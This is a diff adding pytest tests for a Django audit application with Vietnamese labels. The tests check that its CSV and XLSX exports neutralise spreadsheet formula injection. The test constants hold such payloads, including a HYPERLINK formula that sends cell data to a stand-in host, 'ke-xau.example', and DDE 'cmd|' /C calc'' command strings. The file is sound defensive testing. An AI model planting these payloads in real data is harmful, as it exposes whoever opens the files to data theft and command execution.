@@ -1,0 +1,63 @@
+"""The auditor's CSV and XLSX exports carry whatever anyone typed — ids from URLs, reasons, names — as inert text."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from openpyxl import load_workbook
+
+from phoihop.access.testing import body
+from phoihop.audit import registry
+from phoihop.audit.services import audit_record
+from phoihop.core.tests.factories import UserFactory
+
+pytestmark = pytest.mark.django_db
+
+ID = '=HYPERLINK("http://ke-xau.example/?d="&B2,"Xem")'
+REASON = "+cmd|' /C calc'!A0"
+NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
+TITLE = "Hồ sơ\x01mật"  # stored before input refused control characters (or through a path no form guards)
+
+
+@pytest.fixture
+def hostile_event(officer):
+    audit_record(action=registry.RECORD_READ, actor_name=NAME, object_type="cases.case", object_id=ID,
+                 object_repr=TITLE, reason=REASON)  # fmt: skip
+
+
+def test_csv_export_neutralises_formulas(hub, hostile_event, signed_in):
+    auditor = UserFactory(username="giamsat", agency=hub, roles=["auditor"])
+    response = signed_in(auditor).get("/audit/export.csv?action=record.read")
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(body(response).removeprefix("\ufeff"))))
+    row = next(r for r in rows if r["Mã đối tượng"].endswith(ID))
+    assert row["Mã đối tượng"] == "'" + ID and row["Lý do"] == "'" + REASON
+    assert row["Người thực hiện"] == "'" + NAME
+    assert row["Đối tượng"] == "Hồ sơ\u2401mật"
+
+
+def test_xlsx_export_holds_control_characters_and_no_formula(hub, hostile_event, signed_in):
+    auditor = UserFactory(username="giamsat", agency=hub, roles=["auditor"])
+    response = signed_in(auditor).get("/audit/export.xlsx?action=record.read")
+    assert response.status_code == 200  # was a 500 for every export covering the event
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    header = [c.value for c in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("Mã đối tượng")].value == ID)
+    cells = {name: row[i] for i, name in enumerate(header)}
+    for name, value in (("Mã đối tượng", ID), ("Lý do", REASON), ("Người thực hiện", NAME)):
+        assert cells[name].data_type == "s" and cells[name].value == value and cells[name].quotePrefix
+    assert cells["Đối tượng"].value == "Hồ sơ\u2401mật"
+    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
+
+
+def test_user_export_neutralises_names(hub, admin_user, signed_in):
+    UserFactory(username="ke.xau", agency=hub, roles=["officer"], full_name="=1+2", position="-3+cmd|'x'!A0")
+    client = signed_in(admin_user)
+    rows = list(csv.reader(io.StringIO(body(client.get("/admin/users/export.csv")).removeprefix("\ufeff"))))
+    row = next(r for r in rows if r[0] == "ke.xau")
+    assert row[1:4] == ["'=1+2", "BTC", "'-3+cmd|'x'!A0"]
+    sheet = load_workbook(io.BytesIO(client.get("/admin/users/export.xlsx").content)).active
+    cells = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "ke.xau")
+    assert cells[1].data_type == "s" and cells[1].value == "=1+2" and cells[1].quotePrefix
